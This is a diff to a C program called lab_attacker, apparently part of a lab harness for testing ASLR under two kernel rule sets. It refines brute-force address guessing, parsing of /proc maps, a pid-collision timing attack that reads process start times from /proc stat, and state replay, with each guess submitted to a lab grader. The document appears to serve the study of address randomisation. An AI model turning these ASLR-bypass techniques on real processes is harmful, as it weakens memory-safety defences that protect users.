@@ -131,6 +131,19 @@ static int find_victim(long hz, int hint)
 	}
 }
 
+static int rules_6x; /* the kernel's ASLR rules: 0 = 2.6.29, 1 = 6.x */
+
+/* A maps line naming one of the special regions that are not the executable. */
+static int special(const char *line, const char *end)
+{
+	static const char *const names[] = {"[vdso]", "[vvar]", "[heap]"};
+
+	for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++)
+		if (end - line > 6 && end[-1] == ']' && !strncmp(end - 6, names[i], 6))
+			return 1;
+	return 0;
+}
+
 /* This process's layout from its own maps (always readable) and a probe mmap. */
 static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 {
@@ -146,12 +159,13 @@ static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 		while (*end && *end != '\n')
 			end++;
 		/*
-		 * The lowest mapping that is not the vDSO: 2.6.29 puts the vDSO
-		 * below the executable when vdso_addr's hint falls inside [stack]
-		 * (get_unmapped_area then searches down from mmap_base).
+		 * The lowest mapping that is not the vDSO or the heap: 2.6.29 puts
+		 * the vDSO below the executable when vdso_addr's hint falls inside
+		 * [stack] (get_unmapped_area then searches down from mmap_base),
+		 * 6.x always (no hint); 6.x moves a static PIE's brk to
+		 * ELF_ET_DYN_BASE, below the mmap area.
 		 */
-		if (!*exe && !(end - line > 6 && end[-1] == ']' &&
-			       (!strncmp(end - 6, "[vdso]", 6) || !strncmp(end - 6, "[vvar]", 6))))
+		if (!*exe && !special(line, end))
 			*exe = hex(line);
 		if (end - line > 7 && !strncmp(end - 7, "[stack]", 7)) {
 			char *dash = line;
@@ -167,9 +181,11 @@ static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 	*mmap_base = m > 0 ? (uint64_t)m + PAGE : 0;
 	/*
 	 * The probe lands under whatever was mapped top-down from mmap_base
-	 * before it: under 2.6.29's rules the PIE, and on the ia32 profile the
-	 * vDSO and [vvar] as well (2.6.29 maps a 32-bit task's vDSO with
-	 * get_unmapped_area).  mmap_base is the end of that contiguous run.
+	 * before it: the PIE (2.6.29: its first PT_LOAD alone, load_bias 0,
+	 * binfmt_elf.c:839-847, the later segments above mmap_base; 6.x: a
+	 * static PIE's whole span), and the vDSO and [vvar] when they were
+	 * mapped with get_unmapped_area.  mmap_base is the end of that
+	 * contiguous run, which under 2.6.29 stops at the PIE's first mapping.
 	 */
 	for (line = maps; *line;) {
 		uint64_t start = hex(line);
@@ -179,8 +195,11 @@ static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
 			dash++;
 		while (*end && *end != '\n')
 			end++;
-		if (*dash && start == *mmap_base)
+		if (*dash && start == *mmap_base) {
 			*mmap_base = hex(dash + 1);
+			if (!rules_6x && start == *exe)
+				break;
+		}
 		line = *end ? end + 1 : end;
 	}
 	if (m > 0)
@@ -198,14 +217,14 @@ static int report(void)
 	return 0;
 }
 
-static int rules_6x; /* the kernel's ASLR rules: 0 = 2.6.29, 1 = 6.x */
-
 /*
  * One uniform guess per region, in the ranges the kernel's rules allow
  * (profile from our own stack; kernel/mm/layout.c has the rules):
  * 2.6.29 keeps 20 stack bits on x86_64 (its 32-bit shift) and maps the exe
- * right below mmap_base; 6.x keeps 22, leaves a 16 GiB + 9 MiB gap under the
- * stack and puts the exe at ELF_ET_DYN_BASE + rnd.
+ * right below mmap_base; 6.x keeps 22 and leaves a 16 GiB + 9 MiB gap under
+ * the stack.  The victim is a static PIE: both map it top-down below
+ * mmap_base (2.6.29 its first segment, 6.x its span), so the exe guess is
+ * the mmap guess less what our own exe puts there.
  */
 static void brute_force(void)
 {
@@ -214,7 +233,7 @@ static void brute_force(void)
 
 	own_layout(&st, &mb, &ex);
 	ia32 = st < (1ULL << 32);
-	span = mb > ex ? mb - ex : 0; /* 2.6.29: our own exe ends at our mmap_base */
+	span = mb > ex ? mb - ex : 0; /* what our own exe maps below our mmap_base */
 	top = ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL;
 	sbits = ia32 ? 11 : rules_6x ? 22 : 20;
 	mtop = top - (128ULL << 20);
@@ -223,11 +242,7 @@ static void brute_force(void)
 	sys(__NR_getrandom, r, sizeof(r), 0);
 	submit(LAB_STACK, top - (r[0] & ((1ULL << sbits) - 1)) * PAGE);
 	submit(LAB_MMAP, mtop - (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
-	if (rules_6x)
-		submit(LAB_EXE, (ia32 ? 0x400000ULL : 0x555555554000ULL) +
-					(r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
-	else
-		submit(LAB_EXE, mtop - (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE - span);
+	submit(LAB_EXE, mtop - (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE - span);
 }
 
 /* The patch's leak: startstack bounds the stack top; kstkeip sits in the victim's code. */
@@ -301,6 +316,7 @@ static void collision_child(int idx, long pool, long hz)
 	char vpid[12], *argv[] = {"lab_attacker", "report", 0};
 	int victim = find_victim(hz, (int)(sys(__NR_getpid) + pool - idx));
 	uint64_t seen = now_jiffies(), cs, first, last, n, target;
+	uint64_t initial = (uint32_t)(-300 * (int32_t)hz);
 
 	/*
 	 * Only a child whose pid is below the victim's can reach its pid +
@@ -312,8 +328,9 @@ static void collision_child(int idx, long pool, long hz)
 		exit(1);
 	snprintf(vpid, sizeof(vpid), "%d", victim);
 	cs = stat_field(vpid, 22, 0);
-	first = (cs * (uint64_t)hz + 99) / 100;	     /* ceil(cs * hz / 100) */
-	last = ((cs + 1) * (uint64_t)hz + 99) / 100; /* the last, + a tick late */
+	/* stat counts from boot; jiffies from INITIAL_JIFFIES, (u32)(-300 * HZ) */
+	first = initial + (cs * (uint64_t)hz + 99) / 100;      /* ceil(cs * hz / 100) */
+	last = initial + ((cs + 1) * (uint64_t)hz + 99) / 100; /* the last, + a tick late */
 	if (last > seen)
 		last = seen; /* it had started when we saw it */
 	n = last >= first ? last - first + 1 : 1;
@@ -357,7 +374,9 @@ static int attack(const char *strategy, long hz)
 	}
 	if (!strcmp(strategy, "state-replay")) {
 		/* The latest layout we can observe is our own newest child's. */
-		long pid = spawn("/bin/lab_attacker", (char *const[]){"lab_attacker", "report", 0});
+		long pid =
+			spawn("/bin/lab_attacker", (char *const[]){"lab_attacker", "report",
+								   rules_6x ? "6.x" : "2.6.29", 0});
 
 		if (pid > 0)
 			sys(__NR_wait4, (int)pid, &status, 0, 0);
@@ -380,13 +399,16 @@ int main(int argc, char **argv)
 {
 	if (argc >= 2 && !strcmp(argv[1], "victim"))
 		return lab(LAB_OP_PARK, 0, 0) == 0 ? 0 : 1;
-	if (argc >= 2 && !strcmp(argv[1], "report"))
+	if (argc >= 2 && !strcmp(argv[1], "report")) {
+		rules_6x = argc >= 3 && !strcmp(argv[2], "6.x");
 		return report();
+	}
 	if (argc >= 4 && !strcmp(argv[1], "attack") && atol(argv[3]) > 0) {
 		rules_6x = argc >= 5 && !strcmp(argv[4], "6.x");
 		return attack(argv[2], atol(argv[3]));
 	}
-	printf("usage: lab_attacker victim | lab_attacker report | lab_attacker attack STRATEGY HZ "
+	printf("usage: lab_attacker victim | lab_attacker report [2.6.29|6.x] | lab_attacker "
+	       "attack STRATEGY HZ "
 	       "[2.6.29|6.x]\n");
 	return 2;
 }
